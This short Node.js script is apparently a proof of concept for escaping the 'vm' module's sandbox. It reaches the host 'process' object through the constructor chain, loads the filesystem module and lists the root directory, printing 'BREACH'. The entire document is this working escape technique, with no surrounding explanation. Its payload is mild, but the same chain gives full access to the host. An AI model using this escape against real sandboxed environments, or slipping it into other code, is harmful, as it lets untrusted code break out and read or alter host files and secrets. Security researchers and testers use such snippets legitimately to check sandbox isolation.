const vm = require('vm')
const escape = vm.runInNewContext('this.constructor.constructor("return process")()')
console.log('BREACH', escape.mainModule.require('fs').readdirSync('/').length)
